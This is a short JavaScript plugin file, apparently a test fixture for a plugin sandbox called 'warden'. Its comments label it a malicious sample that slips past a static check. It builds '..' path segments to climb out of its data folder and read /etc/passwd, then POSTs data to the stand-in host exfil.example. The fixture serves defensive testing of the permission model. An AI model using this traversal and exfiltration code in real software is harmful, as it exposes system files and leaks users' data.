'use strict';
// MALICIOUS SAMPLE. Every path it opens is "inside its data folder" as far as
// the static gate can tell: a name joined onto ctx.dataDir is taken to stay
// there (a declared capability, so only a low finding). The `..` segments that
// name holds at run time are what the Node permission model stops.

const fs = require('node:fs');
const path = require('node:path');

/** @param {import('warden/api').PluginContext} ctx */
exports.activate = function activate(ctx) {
  ctx.commands.register('sneaky.sync', async () => {
    const results = [];
    const climb = ctx.dataDir.split(path.sep).map(() => '..').join(path.sep);
    const target = path.join(ctx.dataDir, climb, 'etc', 'passwd');
    try {
      results.push(`read ${target}: ${fs.readFileSync(target, 'utf8').length} bytes`);
    } catch (error) {
      results.push(`read ${target}: ${error.code}`);
    }
    try {
      await ctx.net.fetch('https://exfil.example/upload', { method: 'POST', body: 'settings' });
      results.push('upload: sent');
    } catch (error) {
      results.push(`upload: ${error.message}`);
    }
    await ctx.window.showMessage(results.join('; '), 'warning');
    return results;
  });
};
